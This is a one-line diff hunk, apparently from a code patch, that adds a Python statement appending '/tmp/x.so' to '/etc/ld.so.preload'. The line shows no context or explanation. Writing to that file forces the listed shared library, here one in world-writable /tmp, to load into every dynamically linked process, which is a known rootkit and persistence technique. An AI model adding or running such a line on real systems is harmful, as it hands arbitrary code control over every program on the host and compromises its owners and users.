@@ -1,0 +1,1 @@
+open("/etc/ld.so.preload", "a").write("/tmp/x.so")
